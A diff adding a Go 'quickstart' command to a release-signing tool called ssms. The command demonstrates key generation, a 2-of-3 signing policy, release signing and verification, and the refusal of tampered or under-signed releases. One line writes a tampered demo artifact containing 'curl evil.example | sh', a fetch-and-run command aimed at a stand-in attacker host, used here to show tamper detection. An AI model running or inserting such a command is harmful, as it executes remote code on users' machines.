@@ -1,0 +1,143 @@
+package main
+
+import (
+	"bytes"
+	"crypto/rand"
+	"encoding/hex"
+	"fmt"
+	"io"
+	"os"
+	"strings"
+
+	"github.com/spf13/cobra"
+
+	"ssms.dev/ssms/signer"
+)
+
+func quickstartCmd() *cobra.Command {
+	var dir string
+	var keep bool
+	c := &cobra.Command{
+		Use:   "quickstart",
+		Short: "Run the whole release life cycle locally, showing each command",
+		Long: `Run the release life cycle in a scratch directory, printing every ssms command
+it runs and its output: three maintainers create keys, write and sign a 2-of-3
+policy, draft a release of a small artifact, sign it, and verify it; then it
+shows that a tampered artifact, a single signature and a repeated signature
+are refused. Nothing outside the directory is touched.`,
+		Args: cobra.NoArgs,
+		RunE: func(c *cobra.Command, _ []string) error {
+			if dir == "" {
+				d, err := os.MkdirTemp("", "ssms-quickstart-")
+				if err != nil {
+					return err
+				}
+				dir = d
+				if !keep {
+					defer os.RemoveAll(d)
+				}
+			} else if err := os.MkdirAll(dir, 0o755); err != nil {
+				return err
+			}
+			return quickstart(c.OutOrStdout(), dir)
+		},
+	}
+	c.Flags().StringVar(&dir, "dir", "", "directory to work in (default: a temporary one, removed afterwards)")
+	c.Flags().BoolVar(&keep, "keep", false, "keep the temporary directory")
+	return c
+}
+
+// quickstart runs the life cycle in dir. It changes the working directory
+// and SSMS_PASSWORD for its duration, so the printed commands are exactly
+// what a user would type there.
+func quickstart(out io.Writer, dir string) error {
+	wd, err := os.Getwd()
+	if err != nil {
+		return err
+	}
+	if err := os.Chdir(dir); err != nil {
+		return err
+	}
+	defer os.Chdir(wd)
+	pass := make([]byte, 16)
+	rand.Read(pass)
+	oldPass, hadPass := os.LookupEnv(signer.PassphraseEnv)
+	os.Setenv(signer.PassphraseEnv, hex.EncodeToString(pass))
+	defer func() {
+		if hadPass {
+			os.Setenv(signer.PassphraseEnv, oldPass)
+		} else {
+			os.Unsetenv(signer.PassphraseEnv)
+		}
+	}()
+
+	fmt.Fprintf(out, "ssms quickstart: the release life cycle, locally, in %s\n", dir)
+	fmt.Fprintf(out, "(keys are encrypted with a random passphrase held in %s for this run)\n", signer.PassphraseEnv)
+	if err := os.WriteFile("demo-app", []byte("#!/bin/sh\necho 'hello from demo-app 1.0.0'\n"), 0o755); err != nil {
+		return err
+	}
+	if err := os.WriteFile("demo-app.tampered", []byte("#!/bin/sh\necho 'hello from demo-app 1.0.0'; curl evil.example | sh\n"), 0o755); err != nil {
+		return err
+	}
+	commit := strings.Repeat("0123456789", 4)
+	q := &script{out: out}
+	q.section("1. Each maintainer creates a key pair")
+	for _, name := range []string{"alice", "bob", "carol"} {
+		q.ok("key", "generate", "--out", name)
+	}
+	q.section("2. The maintainers write a 2-of-3 policy and sign it")
+	q.ok("policy", "init", "--out", "policy.json", "--product", "demo-app",
+		"--maintainer", "alice.pub", "--maintainer", "bob.pub", "--maintainer", "carol.pub", "--threshold", "2")
+	q.ok("policy", "sign", "policy.json", "--key", "alice.key")
+	q.ok("policy", "sign", "policy.json", "--key", "bob.key")
+	q.section("3. A maintainer drafts the release of the built artifact")
+	q.ok("release", "draft", "--product", "demo-app", "--version", "1.0.0", "--sequence", "1",
+		"--source-uri", "https://example.org/demo-app.git", "--source-commit", commit,
+		"--artifact", "demo-app=demo-app", "--policy", "policy.json", "--out", "release.json")
+	q.section("4. Two maintainers sign it, each offline with their own key")
+	q.ok("release", "sign", "release.json", "--key", "alice.key")
+	q.fails("release", "verify", "release.json", "--policy", "policy.json", "--artifact", "demo-app=demo-app")
+	q.fails("release", "sign", "release.json", "--key", "alice.key")
+	q.ok("release", "sign", "release.json", "--key", "bob.key")
+	q.section("5. Anyone (CI, a user) checks the threshold and the artifact")
+	q.ok("release", "verify", "release.json", "--policy", "policy.json", "--artifact", "demo-app=demo-app")
+	q.section("6. A tampered artifact is refused")
+	q.fails("release", "verify", "release.json", "--policy", "policy.json", "--artifact", "demo-app=demo-app.tampered")
+	if q.err != nil {
+		return q.err
+	}
+	fmt.Fprintln(out, "\nquickstart: every step behaved as expected")
+	return nil
+}
+
+// script runs ssms commands in-process, echoing them and their output, and
+// remembers the first step that did not behave as expected.
+type script struct {
+	out io.Writer
+	err error
+}
+
+func (s *script) section(title string) { fmt.Fprintf(s.out, "\n%s\n", title) }
+
+func (s *script) ok(args ...string)    { s.step(true, args) }
+func (s *script) fails(args ...string) { s.step(false, args) }
+
+func (s *script) step(wantOK bool, args []string) {
+	if s.err != nil {
+		return
+	}
+	fmt.Fprintf(s.out, "$ ssms %s\n", strings.Join(args, " "))
+	var buf bytes.Buffer
+	code := run(args, &buf, &buf)
+	for _, line := range strings.Split(strings.TrimRight(buf.String(), "\n"), "\n") {
+		fmt.Fprintf(s.out, "    %s\n", line)
+	}
+	switch {
+	case wantOK && code != 0:
+		s.err = fmt.Errorf("quickstart: step failed: ssms %s", strings.Join(args, " "))
+	case !wantOK && code == 0:
+		s.err = fmt.Errorf("quickstart: ssms %s should have been refused but succeeded", strings.Join(args, " "))
+	case !wantOK:
+		fmt.Fprintln(s.out, "    (refused, as it must be)")
+	}
+}
